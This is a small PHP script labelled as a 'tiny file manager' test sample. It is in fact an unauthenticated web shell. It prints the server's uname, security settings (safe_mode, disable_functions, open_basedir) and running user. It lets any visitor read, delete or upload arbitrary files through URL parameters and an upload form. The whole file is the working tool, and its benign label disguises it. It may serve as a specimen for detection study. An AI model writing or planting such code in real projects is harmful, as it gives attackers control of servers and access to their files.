<?php
// Tiny file manager (test sample).
@set_time_limit(0);
$dir = isset($_GET['d']) ? $_GET['d'] : getcwd();
echo '<h3>' . php_uname() . '</h3>';
echo 'safe_mode: ' . (ini_get('safe_mode') ? 'on' : 'off') . '<br>';
echo 'disable_functions: ' . ini_get('disable_functions') . '<br>';
echo 'open_basedir: ' . ini_get('open_basedir') . '<br>';
if (function_exists('posix_getpwuid')) {
    $u = posix_getpwuid(posix_geteuid());
    echo 'user: ' . $u['name'] . '<br>';
}
if (isset($_GET['del'])) {
    unlink($_GET['del']);
}
if (isset($_GET['view'])) {
    echo '<pre>' . htmlspecialchars(file_get_contents($_GET['view'])) . '</pre>';
}
if (isset($_FILES['up'])) {
    move_uploaded_file($_FILES['up']['tmp_name'], $dir . '/' . $_FILES['up']['name']);
}
foreach (scandir($dir) as $f) {
    printf('%s %o<br>', htmlspecialchars($f), fileperms($dir . '/' . $f) & 0777);
}
?>
<form method="post" enctype="multipart/form-data">Upload file: <input type="file" name="up"><input type="submit"></form>
